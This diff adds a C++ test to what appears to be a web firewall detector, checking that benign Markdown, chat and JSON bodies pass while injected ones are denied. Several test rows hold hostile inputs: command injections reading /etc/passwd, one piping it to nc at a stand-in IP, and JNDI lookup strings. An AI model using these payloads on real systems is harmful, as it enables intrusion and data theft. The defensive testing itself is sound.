@@ -102,5 +102,48 @@ TEST(Siblings, OrdinaryOnesPassAndAttacksAreDenied) {
   }
 }
 
+struct BodyRow {
+  const char* type;
+  std::string_view body;
+  bool denied;
+};
+constexpr std::string_view kManual =
+    "# Deploying the wiki\n\nWe use `git`, `make` and a small script, which the night watch runs by hand "
+    "when the "
+    "other one is asleep:\n\n```sh\ngit pull --ff-only && make -j4 all\nsudo systemctl restart wiki.service\n"
+    "curl -fsS http://localhost:8080/health || echo \"not healthy\" >&2\n```\n\nThe configuration lies "
+    "beside it, "
+    "and a copy of it in the drawer of the desk.\n";
+// A file of Markdown that is put somewhere, messages of a chat, and documents made of blocks.
+constexpr BodyRow kBodies[] = {
+    {"text/markdown; charset=utf-8", kManual, false},
+    {"text/markdown", "; cat /etc/passwd", true},
+    {"text/markdown", "# Notes\n\nwhat;cat /etc/passwd|nc 192.0.2.1 80\n", true},
+    {"text/plain;charset=UTF-8", R"(42["message","run `make` && then `npm test`; it's \"green\""])", false},
+    {"text/plain;charset=UTF-8", R"(42["message","x;cat /etc/passwd"])", true},
+    {"text/plain;charset=UTF-8", R"(42["message";cat /etc/passwd])", true},
+    {"text/plain;charset=UTF-8", R"(42/a,["message",{"text":"${jndi:ldap://x/a}"}])", true},
+    {"application/json",
+     R"({"type":"doc","content":[{"type":"codeBlock","attrs":{"language":"bash"},"content":[{"type":"text","text":"sudo systemctl restart web; journalctl -fu web"}]}]})",
+     false},
+    {"application/json",
+     R"j({"nbformat":4,"cells":[{"cell_type":"code","source":"import subprocess\nprint(subprocess.run(['git','log'],capture_output=True))"}]})j",
+     false},
+    {"application/json",
+     R"({"blocks":[{"type":"code","data":{"code":"for f in *.jpg; do convert \"$f\" x; done"}}]})", false},
+    {"application/json", R"({"blocks":[{"type":"code","command":"x;cat /etc/passwd"}]})", true},
+    {"application/json", R"({"type":"code","text":"x;cat /etc/passwd"})", true},
+    {"application/json", R"({"items":[{"type":"code","text":"x;cat /etc/passwd"}]})", true},
+    {"application/json", R"({"blocks":[{"type":"code","data":{"code":"${jndi:ldap://x/a}"}}]})", true},
+};
+
+TEST(Siblings, WholeBodies) {
+  for (const BodyRow& row : kBodies) {
+    const std::string request = variations::make_request("/files/notes", row.type, std::string(row.body));
+    judge().inspect(request);
+    EXPECT_EQ(judge().denies(Sensitivity::kBalanced), row.denied) << judge().why() << " <- " << request;
+  }
+}
+
 }  // namespace
 }  // namespace wafd::detect
